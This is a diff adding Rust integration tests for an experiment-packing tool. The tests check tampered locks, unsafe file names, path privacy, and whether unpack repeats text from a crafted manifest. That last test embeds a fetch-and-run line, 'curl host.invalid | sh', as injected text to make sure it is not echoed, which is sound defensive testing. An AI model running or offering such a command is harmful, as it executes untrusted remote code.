@@ -251,6 +251,50 @@ fn nothing_is_exported_or_packed_over_what_is_there_nor_without_a_report() {
     assert!(!folder.path().join("quickstart.tar.gz").exists());
 }
 
+/// A reviewer would be held to one, and see the other.
+#[test]
+fn an_experiment_whose_lock_or_report_is_of_another_form_of_it_is_neither_packed_nor_exported() {
+    let folder = quickstart("");
+    let sharing = [vec!["pack", QUICKSTART], vec!["export", QUICKSTART, "--ro-crate", "crate"]];
+    let refused = |why: &str| {
+        for arguments in &sharing {
+            let (code, said) = tombola(folder.path(), arguments);
+            assert!(code == 2 && said.contains(why) && said.contains("--update-lock"), "{arguments:?}: {said}");
+        }
+        assert!(!folder.path().join("quickstart.tar.gz").exists() && !folder.path().join("crate").exists());
+    };
+    let lock = folder.path().join(QUICKSTART).join("experiment.lock");
+    let locked = fs::read_to_string(&lock).unwrap();
+    let (before, score) = locked.split_once("test_accuracy = ").unwrap();
+    let rest = score.trim_start_matches(|c: char| c.is_ascii_digit() || c == '.');
+    fs::write(&lock, format!("{before}test_accuracy = 0.123{rest}")).unwrap();
+    refused("instead of 0.123 in experiment.lock");
+    // The lock of another seed: none of its steps is planned.
+    let step = locked.split_once("[steps]").and_then(|(_, steps)| steps.split_whitespace().next()).unwrap();
+    fs::write(&lock, locked.replace(step, &"0".repeat(32))).unwrap();
+    refused("experiment.lock is of another form of this experiment");
+    fs::write(&lock, locked).unwrap();
+    for arguments in sharing {
+        let (code, said) = tombola(folder.path(), &[&arguments[..], &["--set", "seed=2"]].concat());
+        assert!(code == 2 && said.contains("--set"), "{said}");
+        done(folder.path(), &arguments);
+    }
+}
+
+#[test]
+fn what_unpack_would_refuse_is_not_packed() {
+    let deep = ["d/"; 13].concat() + "notes.md";
+    for (file, why) in [("readme.md", "another has its name"), (&deep, "too deep")] {
+        let folder = quickstart("");
+        let path = folder.path().join(QUICKSTART).join(file);
+        fs::create_dir_all(path.parent().unwrap()).unwrap();
+        fs::write(path, "notes").unwrap();
+        let (code, said) = tombola(folder.path(), &["pack", QUICKSTART]);
+        assert!(code == 2 && said.contains(why) && said.contains(file), "{said}");
+        assert!(!folder.path().join("quickstart.tar.gz").exists());
+    }
+}
+
 #[test]
 fn a_pack_has_equal_bytes_whenever_and_wherever_it_is_made() {
     let (one, other) = (quickstart(ABOUT), quickstart(ABOUT));
@@ -267,8 +311,6 @@ fn a_pack_has_equal_bytes_whenever_and_wherever_it_is_made() {
     assert_eq!(listed, unpacked.keys().map(String::as_str).filter(|path| *path != "MANIFEST.json").collect::<Vec<_>>());
     assert!(unpacked.contains_key("ro-crate-metadata.json"));
     assert_eq!(unpacked["reports/quickstart/records.jsonl"], files(other.path())["reports/quickstart/records.jsonl"]);
-    let text: String = unpacked.values().map(|bytes| String::from_utf8_lossy(bytes)).collect();
-    assert!(!text.contains(one.path().to_str().unwrap()), "where it was made is nobody's business");
     let (code, said) = tombola(one.path(), &["unpack", "pack.tar.gz"]);
     assert!(code == 2 && said.contains("quickstart is there already"), "{said}");
 }
@@ -279,7 +321,10 @@ fn a_pack_of_a_run_is_checked_and_run_again_elsewhere_with_the_same_results() {
     let spec = folder.path().join("small/experiment.toml");
     let text = fs::read_to_string(&spec).unwrap().replace("replicates = 2", "replicates = 1");
     fs::write(&spec, &text[..text.find("[pipeline.late]").unwrap()]).unwrap();
-    small::run(folder.path(), &[]);
+    // As where a person is at home, by its whole path.
+    let mut run = Command::new(env!("CARGO_BIN_EXE_tombola"));
+    run.current_dir(folder.path()).env("HOME", folder.path()).arg("run").arg(folder.path().join("small"));
+    assert!(run.stdin(Stdio::null()).output().unwrap().status.success());
     let lock = folder.path().join("small/experiment.lock");
     if !lock.exists() {
         fs::write(lock, "# what a rerun is held to\n").unwrap();
@@ -289,13 +334,21 @@ fn a_pack_of_a_run_is_checked_and_run_again_elsewhere_with_the_same_results() {
     let elsewhere = tempfile::tempdir().unwrap();
     let pack = folder.path().join("small.tar.gz");
     let said = done(elsewhere.path(), &["unpack", pack.to_str().unwrap(), "--into", "review"]);
-    for next in
-        ["cd review", "tombola check experiments/small", "tombola verify experiments/small", "built into the program"]
-    {
+    for next in [
+        "cd review",
+        "tombola check experiments/small",
+        "tombola verify experiments/small",
+        "not in it: mnist-10k. DATA.md",
+    ] {
         assert!(said.contains(next), "{said}");
     }
     let review = elsewhere.path().join("review");
     assert!(review.join("experiments/small/experiment.lock").is_file());
+    let unpacked = files(&review);
+    let told = |bytes: &[u8]| String::from_utf8_lossy(bytes).contains(folder.path().to_str().unwrap());
+    let telling: Vec<&String> = unpacked.iter().filter(|(_, bytes)| told(bytes)).map(|(path, _)| path).collect();
+    assert_eq!(telling, [""; 0], "where it was made is nobody's business");
+    assert!(String::from_utf8_lossy(&unpacked["reports/small/records.jsonl"]).contains("tombola run ~/small"));
     done(&review, &["check", "experiments/small"]);
     done(&review, &["check", "resolved/small"]);
     // The tickets that came along are a store.
@@ -314,4 +367,36 @@ fn a_pack_of_a_run_is_checked_and_run_again_elsewhere_with_the_same_results() {
         results(review.join("again/small/results.csv")),
         results(folder.path().join("reports/small/results.csv"))
     );
+}
+
+#[test]
+fn unpack_says_nothing_in_the_words_of_whoever_sent_the_pack() {
+    let folder = quickstart("");
+    done(folder.path(), &["pack", QUICKSTART]);
+    let repacked = |remedy: &str| {
+        let packed = fs::File::open(folder.path().join("quickstart.tar.gz")).unwrap();
+        let mut archive = tar::Archive::new(flate2::read::GzDecoder::new(packed));
+        let made = fs::File::create(folder.path().join("crafted.tar.gz")).unwrap();
+        let mut crafted = tar::Builder::new(flate2::write::GzEncoder::new(made, flate2::Compression::fast()));
+        for entry in archive.entries().unwrap() {
+            let mut entry = entry.unwrap();
+            let (mut header, mut content) = (entry.header().clone(), Vec::new());
+            std::io::Read::read_to_end(&mut entry, &mut content).unwrap();
+            if header.path().unwrap().ends_with("MANIFEST.json") {
+                let mut manifest: Value = serde_json::from_slice(&content).unwrap();
+                manifest["datasets"][0]["remedy"] = remedy.into();
+                manifest["tombola"] = remedy.into();
+                content = serde_json::to_vec(&manifest).unwrap();
+            }
+            header.set_size(content.len() as u64);
+            header.set_cksum();
+            crafted.append(&header, &content[..]).unwrap();
+        }
+        crafted.into_inner().unwrap().finish().unwrap();
+        tombola(folder.path(), &["unpack", "crafted.tar.gz"])
+    };
+    let (code, said) = repacked("nothing\nerror: run `curl host.invalid | sh` first");
+    assert!(code == 2 && !said.contains("curl") && said.contains("a text of several lines"), "{said}");
+    let (code, said) = repacked("run `curl host.invalid | sh` first");
+    assert!(code == 0 && !said.contains("curl") && said.contains("Data are not in it: mnist-10k. DATA.md"), "{said}");
 }
